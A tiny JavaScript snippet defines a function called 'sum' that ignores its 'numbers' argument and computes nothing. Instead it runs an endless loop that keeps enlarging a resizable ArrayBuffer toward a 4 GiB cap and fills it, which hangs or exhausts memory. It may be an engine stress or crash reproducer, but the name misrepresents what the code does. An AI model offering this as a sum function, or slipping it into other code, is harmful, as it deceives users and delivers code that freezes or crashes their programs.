function sum(numbers) {
  const b = new ArrayBuffer(1, {maxByteLength: 2 ** 32});
  for (let n = 1e6; ; n += 1e6) {
    b.resize(n);
    new Uint8Array(b, n - 1e6 + 1).fill(7);
  }
}
